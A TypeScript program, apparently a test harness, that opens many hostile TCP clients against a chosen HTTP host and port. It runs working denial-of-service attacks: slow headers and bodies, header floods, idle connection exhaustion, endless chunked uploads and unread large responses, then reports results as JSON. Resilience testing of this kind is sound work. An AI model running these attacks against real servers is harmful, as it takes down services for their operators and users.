/**
 * A program of its own: `http-attack.ts KIND COUNT HOST PORT`. COUNT clients that mean ill, until
 * standard input ends; then it prints what they did as one line of JSON.
 *
 *   slow-heads   a byte of a head each second, for ever
 *   slow-bodies  a byte of a body each second, for ever
 *   head-flood   heads without an end, as fast as they are taken, ten times a second
 *   connections  connect, say nothing; a tenth of them leaves and comes back each second
 *   huge-bodies  bodies without an end, 2 MB a second each
 *   no-reading   ask for 50 MB and read none of it
 */

import { connect, type Socket } from "node:net";

const [kind = "", count = "1", host = "", port = "0"] = process.argv.slice(2);
const HEAD = "GET / HTTP/1.1\r\nHost: attack.example\r\n";
const POST = "POST /sink HTTP/1.1\r\nHost: attack.example\r\nTransfer-Encoding: chunked\r\n\r\n";
const CHUNK = `10000\r\n${"x".repeat(65_536)}\r\n`;
const FIELDS = `X-Flood: ${"a".repeat(100)}\r\n`.repeat(300);

const told = { opened: 0, closed: 0, refused: 0, bytes: 0, statuses: {} as Record<string, number> };
let isOver = false;

interface Manner {
  /** Of every connection, as soon as it stands. */
  readonly first: string;
  readonly everyMs: number;
  readonly each: (socket: Socket) => void;
  readonly againMs: number;
}

function write(socket: Socket, text: string): void {
  if (socket.writableLength > 1_000_000) return;
  told.bytes += text.length;
  socket.write(text);
}

const nothing = (): void => {};
const MANNERS: Readonly<Record<string, Manner>> = {
  "slow-heads": { first: HEAD, everyMs: 1000, each: (s) => write(s, "X"), againMs: 10 },
  "slow-bodies": {
    first: POST,
    everyMs: 1000,
    each: (s) => write(s, "1\r\nx\r\n"),
    againMs: 10,
  },
  "head-flood": { first: HEAD, everyMs: 10, each: (s) => write(s, FIELDS), againMs: 100 },
  connections: {
    first: "",
    everyMs: 1000,
    each: (s) => {
      if (Math.random() < 0.1) s.resetAndDestroy();
    },
    againMs: 10,
  },
  "huge-bodies": { first: POST, everyMs: 32, each: (s) => write(s, CHUNK), againMs: 100 },
  "no-reading": {
    first: "GET /big HTTP/1.1\r\nHost: attack.example\r\n\r\n",
    everyMs: 1000,
    each: nothing,
    againMs: 100,
  },
};

const manner = MANNERS[kind];
if (manner === undefined) throw new Error(`no kind of attack: ${kind}`);

function open({ first, everyMs, each, againMs }: Manner): void {
  const socket = connect({ host, port: Number(port), noDelay: true });
  let stood = false;
  let going: NodeJS.Timeout | undefined;
  socket.once("connect", () => {
    stood = true;
    told.opened++;
    going = setInterval(() => each(socket), everyMs);
    if (first !== "") write(socket, first);
    if (kind === "no-reading") socket.pause();
  });
  socket.on("error", nothing);
  if (kind !== "no-reading") {
    socket.once("data", (data) => {
      const status = data.toString("latin1", 9, 12);
      told.statuses[status] = (told.statuses[status] ?? 0) + 1;
    });
  }
  socket.once("close", () => {
    clearInterval(going);
    if (stood) told.closed++;
    else told.refused++;
    if (!isOver) setTimeout(() => open(manner!), againMs);
  });
}

process.stdin.resume().on("end", () => {
  isOver = true;
  process.stdout.write(`${JSON.stringify(told)}\n`, () => process.exit());
});

for (let i = 0; i < Number(count); i++) {
  setTimeout(() => open(manner), (i * 2000) / Number(count));
}
